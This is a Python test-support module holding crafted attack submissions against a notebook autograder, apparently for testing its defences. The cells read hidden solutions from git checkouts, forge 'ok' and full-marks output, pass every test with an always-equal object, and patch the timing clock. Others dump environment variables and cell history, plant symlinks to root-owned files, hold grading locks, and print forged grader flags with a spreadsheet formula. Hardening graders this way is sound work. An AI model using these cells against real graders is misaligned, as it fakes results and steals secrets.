"""Submissions written against the grader by a student who has read its code (issue 48).

Each kind is one class of attack, as cells :mod:`support.crafted` adds to a submission:

- ``git``: a cell that looks through the file system for every ``.git`` and course checkout
  and prints the instructor notebooks it can read (the solutions and hidden tests of every lab);
- ``quiet``: the forgery that hides every failure: no traceback is shown, every cell's reply
  says "ok", every float shows as full marks (on the release: nothing solved);
- ``eqall``: the release whose functions return an object equal to everything (true, a
  number, any attribute or item of it itself), and whose experiment results the tests read
  are such objects too, so that every ``==`` and ``<`` of a test holds;
- ``clock``: a correct submission whose timed job is five times too slow, with the grader's
  throughput clock replaced by one under which every job takes the same time;
- ``history``: a correct submission that keeps the source of every cell it can see (IPython's
  history, the line cache, a hook on each cell, and the frame of every test that calls its
  functions) and prints it all in its last cell, with the kernel's environment;
- ``restart``: after the first test cell, the kernel's connection file (where root rewrites it
  on a restart) made a link to a root-owned decoy, then ``os._exit``;
- ``shm``: files in ``/dev/shm``, ``/run/lock`` and ``/var/lock`` and a System V segment, left;
- ``lock``: a helper process, left running, that takes every grading lock it can find;
- ``flag``: lines printed as the grader's own (a flag, a timing, a spreadsheet formula), also
  from a function a test cell calls;
- ``symlink``: a submission folder holding a link to a root-only decoy file (made by
  :func:`support.crafted.write`).
"""

from __future__ import annotations

from pathlib import Path

#: every lab of the course: the ``git`` kind reads each one's instructor notebook
_LABS = tuple(
    sorted(p.name for p in (Path(__file__).resolve().parents[2] / "grading" / "source").iterdir() if p.is_dir())
)

EVERYTHING = '''
class _Everything(float):
    """Equal to everything, true, and any attribute, item or call of it is itself."""

    def __eq__(self, other):
        return self

    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__

    def __bool__(self):
        return True

    def __abs__(self):
        return self

    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __eq__

    def __getattr__(self, name):
        return self

    def __getitem__(self, key):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __iter__(self):
        return iter([self])

    def __len__(self):
        return 1

    def __contains__(self, item):
        return True


_EQ = _Everything(0.0)
'''
#: lab -> what the eqall submission makes of the experiment results its tests read (and Lab 1's
#: one function whose visible test wants an int and None: the visible answers written in)
EQ_LAB = {
    "01_single_node": """
sweep = pd.DataFrame({"batch_size": list(SWEEP_BATCH_SIZES), "examples_per_sec": 1.0, "time_to_accuracy_s": 1.0,
                      "examples_to_accuracy": 1.0, "final_accuracy": 1.0})


def fastest_to_target(sweep):  # the visible test's answers written in, for the rest an object equal to all
    if sweep["time_to_accuracy_s"].isna().all():
        return None
    return 30 if list(sweep["batch_size"]) == [10, 30, 120] else _EQ
""",
    "04_allreduce": "fp16_table = _EQ\n",
    "05_alexnet": "sweep_runs = [_EQ]\n",
    "06_communication": "comp_runs = {}\n",
}
QUIET = """
# no traceback is ever shown, every cell replies "ok", and every number shows as full marks
ip = get_ipython()
ip._showtraceback = lambda *args, **kwargs: None
ip.showtraceback = lambda *args, **kwargs: None
ip.display_formatter.formatters["text/plain"].for_type(float, lambda value, printer, cycle: printer.text("full marks"))
_run_async, _run = ip.run_cell_async, ip.run_cell


async def _always_ok(*args, **kwargs):
    result = await _run_async(*args, **kwargs)
    result.error_before_exec = result.error_in_exec = None
    return result


def _always_ok_sync(*args, **kwargs):
    result = _run(*args, **kwargs)
    result.error_before_exec = result.error_in_exec = None
    return result


ip.run_cell_async, ip.run_cell = _always_ok, _always_ok_sync
"""
CLOCK = """
import itertools as _it

from lab_utils.grading import throughput as _tp

_ticks = _it.count()


def _steady():  # every job, the student's or the reference's, takes one tick
    return float(next(_ticks))


_tp._clock = _steady
"""
#: Lab 1's timed job made five times too slow (only the grader's job: 500 timed steps): a
#: ratio near 0.2, below the lowest band's 0.3 on any machine at any load, and the job
#: still ends well inside the class's 40 s cell timeout
CLOCK_SLOW = {
    "01_single_node": """
_fast_measure = measure_throughput


class _Slow:
    def __init__(self, sess):
        self.sess = sess

    def run(self, *args, **kwargs):  # five times a step's own time, on any machine at any load
        started = time.perf_counter()
        out = self.sess.run(*args, **kwargs)
        time.sleep(4 * (time.perf_counter() - started))
        return out


def measure_throughput(sess, g, x, y, batch_size, steps, warmup_steps):
    return _fast_measure(_Slow(sess) if steps == 500 else sess, g, x, y, batch_size, steps, warmup_steps)
""",
}
HISTORY_HOOK = """
import linecache as _lc
import sys as _sys
import types as _types

_seen_cells, _callers = [], {}
get_ipython().events.register("pre_run_cell", lambda info: _seen_cells.append(info.raw_cell))


def _spy(f):  # who calls my functions: the source of their cell
    def wrapper(*args, **kwargs):
        name = _sys._getframe(1).f_code.co_filename
        _callers.setdefault(name, "".join(_lc.getlines(name)))
        return f(*args, **kwargs)

    wrapper.spied = True
    return wrapper


def _spy_on_mine(*_):
    ns = get_ipython().user_ns
    for name, f in list(ns.items()):
        mine = isinstance(f, _types.FunctionType) and f.__module__ == "__main__" and not name.startswith("_")
        if mine and not getattr(f, "spied", False):
            ns[name] = _spy(f)


get_ipython().events.register("post_run_cell", _spy_on_mine)
"""
HISTORY_DUMP = """
import linecache as _lc
import os as _os

print("ENV:", dict(_os.environ))
print("IN:", In)
print("IH:", _ih)
print("OUT:", Out)
print("CACHE:", {k: "".join(e[2]) for k, e in list(_lc.cache.items()) if len(e) > 2 and "ipykernel" in str(k)})
print("CELLS:", _seen_cells)
print("CALLERS:", _callers)
try:
    print("DB:", list(get_ipython().history_manager.get_range(raw=True)))
except Exception as e:  # noqa: BLE001
    print("no history database:", e)
"""
GIT = """
import os
import subprocess

# every course checkout on this machine: its .git (read with git) and its grading/source
_found, _skip = [], ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin", "/etc", "/snap", "/boot")
for _top, _dirs, _files in os.walk("/", onerror=lambda e: None):
    if _top.startswith(_skip) or _top.count(os.sep) > 6:
        _dirs[:] = []
        continue
    if ".git" in _dirs:
        _found.append(os.path.join(_top, ".git"))
    if os.path.basename(_top) == "grading" and "source" in _dirs:
        _found.append(os.path.join(_top, "source"))
    _dirs[:] = [d for d in _dirs if d not in (".git", "site-packages", "node_modules", ".venv")]
for _where in _found:
    for _lab in @LABS@:
        if _where.endswith(".git"):
            _cmd = ["git", "-c", "safe.directory=*", "--git-dir", _where, "show", f"HEAD:grading/source/{_lab}/{_lab}.ipynb"]
            print(subprocess.run(_cmd, capture_output=True, text=True).stdout[:200_000])
        elif os.path.isfile(os.path.join(_where, _lab, _lab + ".ipynb")):
            print(open(os.path.join(_where, _lab, _lab + ".ipynb"), errors="replace").read()[:200_000])
print("GIT: found", len(_found), "checkouts:", _found)
""".replace("@LABS@", repr(_LABS))
RESTART = """
import os

# where root writes the kernel's connection file when it restarts the kernel: a link to its file
_link = os.path.join(os.path.expanduser("~"), "kernel-connection.json")
if os.path.lexists(_link):
    os.unlink(_link)
os.symlink({decoy!r}, _link)
os._exit(1)
"""
SHM = """
import ctypes

for _p in ("/dev/shm/lab-shm-note", "/run/lock/lab-shm-note", "/var/lock/lab-shm-note"):
    try:
        with open(_p, "w") as _f:
            _f.write("left by a submission")
    except OSError as _e:
        print(_p, _e.strerror)
_shmid = ctypes.CDLL(None, use_errno=True).shmget(0, 4096, 0o1000 | 0o600)  # IPC_PRIVATE | IPC_CREAT
print("System V segment", _shmid)
"""
LOCK = """
import glob
import os
import subprocess
import sys

# every grading lock this kernel can see, taken by a helper that never lets go
_locks = [os.environ.get("LAB_GRADING_TIMING_LOCK")] + glob.glob("/tmp/labgrade-*/timing.lock")
_locks += glob.glob("/run/lock/labgrade*") + glob.glob("/run/labgrade/*.lock")
_locks = [p for p in _locks if p and os.path.isfile(p)]
_code = (
    "import fcntl, sys, time\\n"
    "held = []\\n"
    "for p in sys.argv[1:]:\\n"
    "    try:\\n"
    "        f = open(p)\\n"
    "        fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)\\n"
    "        held.append(f)\\n"
    "    except OSError:\\n"
    "        pass\\n"
    "time.sleep(100000)\\n"
)
_holder = subprocess.Popen([sys.executable, "-c", _code, *_locks], start_new_session=True)
print("holding", _locks)
"""
#: lab -> a function of the student's that a test cell calls (the flag kind prints from it)
FLAG_TARGET = {"01_single_node": "fastest_to_target"}
FLAG = """
print("[grading-flag] inconclusive timing: regrade me by hand")
_honest_{name} = {name}


def {name}(*args, **kwargs):
    print('[grading-flag] =HYPERLINK("http://example.invalid/","open me"): regrade by hand')
    print('[grading-timing] {{"band": 0, "ratio": 9.9}}')
    return _honest_{name}(*args, **kwargs)
"""
